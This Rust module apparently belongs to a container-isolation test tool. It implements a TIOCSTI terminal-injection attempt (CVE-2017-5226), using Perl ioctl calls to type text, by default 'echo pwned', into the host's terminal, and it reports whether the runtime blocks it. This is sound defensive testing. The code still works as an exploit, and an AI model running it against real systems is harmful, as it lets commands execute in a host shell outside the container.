//! Types into the terminal that the container was started from: a shell reads
//! it as soon as the container is gone. ioctl(TIOCSTI) has no safe binding, so
//! perl makes the call.

use std::process::{Command, Stdio};

use nix::errno::Errno;

use crate::attack::{Argument, Arguments, Attack, Outcome, StoppedBy, Try};

pub const ATTACK: Attack = Attack {
    name: "type-into-terminal",
    tries: "put characters into the input of the host's terminal",
    stopped: StoppedBy::Runtime,
    rule: "the command gets a terminal of its own (pty(7)), never the host's",
    source: "TIOCSTI(2const), CVE-2017-5226",
    arguments: &[Argument::new("TEXT", "echo pwned", "what to type")],
    run,
};

/// Byte by byte; says the errno, or 0.
const PERL: &str = r#"
    for (split //, "$ARGV[0]\n") {
        ioctl(STDIN, 0x5412, $_) or do { print $!+0; exit }
    }
    print 0
"#;

fn run(arguments: &Arguments) -> Try {
    let text = arguments.text("TEXT")?;
    let perl = Command::new("perl")
        .args(["-e", PERL, text])
        .stdin(Stdio::inherit())
        .output();
    let Ok(perl) = perl else {
        return Ok(Outcome::CannotTry(
            "the container has no perl: use --rootfs with one that has".into(),
        ));
    };
    Ok(match String::from_utf8_lossy(&perl.stdout).parse() {
        Ok(0) => Outcome::Done(
            "typed. Look outside: does the shell there read it?".into(),
        ),
        Ok(errno) => {
            Outcome::refused("ioctl(0, TIOCSTI)", Errno::from_raw(errno))
        }
        Err(_) => Outcome::CannotTry(format!(
            "perl failed: {}",
            String::from_utf8_lossy(&perl.stderr).trim_end().escape_debug()
        )),
    })
}
